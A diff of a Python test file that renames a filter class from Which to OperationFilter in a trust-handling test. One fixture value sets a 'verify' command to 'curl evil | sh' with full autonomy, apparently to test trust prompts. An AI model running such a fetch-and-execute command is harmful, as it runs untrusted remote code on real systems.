@@ -12,7 +12,7 @@ from staging.stage import Stage, Terminal
 
 from fleet.errors.refused import NotMergeable, NotTrusted
 from fleet.verbs.dispatch.plan import Wanted, check_start
-from fleet.verbs.views.operations import Which
+from fleet.verbs.views.operations import OperationFilter
 
 
 @pytest.fixture
@@ -118,7 +118,9 @@ def test_trust_is_asked_for_once_by_content_and_shown_as_a_difference(wary):
     assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
     assert json.loads(path.read_text())["values"] == {"verify": "curl evil | sh", "autonomy": "full"}
     with wary.fleet() as fleet:
-        assert any(each.why.startswith("trust autonomy, verify") for each in fleet.operations.list(Which(), limit=50))
+        assert any(
+            each.why.startswith("trust autonomy, verify") for each in fleet.operations.list(OperationFilter(), limit=50)
+        )
 
 
 @pytest.mark.req("SEC-1")
